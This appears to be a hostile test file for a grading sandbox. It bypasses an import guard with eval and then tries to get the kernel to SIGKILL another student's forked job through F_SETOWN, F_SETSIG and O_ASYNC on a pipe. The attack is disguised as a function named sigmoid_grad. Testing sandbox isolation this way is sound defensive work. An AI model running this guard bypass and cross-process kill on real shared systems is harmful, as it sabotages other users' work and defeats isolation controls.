"""Hostile: make the kernel SIGKILL the child already forked for the next job
(another student's), through a pipe's owner (F_SETOWN + F_SETSIG + O_ASYNC), then a write."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
signal = _m("signal")
time = _m("time")

F_SETSIG = 10


def _others():
    """The warm parent (pid 1) forks the next job's child just after this one started: wait for it."""
    me = os.getpid()
    for _ in range(200):
        found = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, 1))
        if found:
            return found
        time.sleep(0.01)
    return []


def sigmoid_grad(x):
    outcomes = []
    for pid in _others():
        read_end, write_end = os.pipe()
        try:
            fcntl.fcntl(read_end, fcntl.F_SETOWN, pid)
            outcomes.append(f"F_SETOWN({pid}): DONE")
        except OSError as exc:
            outcomes.append(f"F_SETOWN({pid}): {type(exc).__name__}")
        try:
            fcntl.fcntl(read_end, F_SETSIG, signal.SIGKILL)
            outcomes.append("F_SETSIG: DONE")
        except OSError as exc:
            outcomes.append(f"F_SETSIG: {type(exc).__name__}")
        try:
            flags = fcntl.fcntl(read_end, fcntl.F_GETFL)
            fcntl.fcntl(read_end, fcntl.F_SETFL, flags | os.O_ASYNC)
            outcomes.append("O_ASYNC: DONE")
        except OSError as exc:
            outcomes.append(f"O_ASYNC: {type(exc).__name__}")
        os.write(write_end, b"x")
    time.sleep(0.1)
    raise RuntimeError(" | ".join(outcomes) or "no other process")
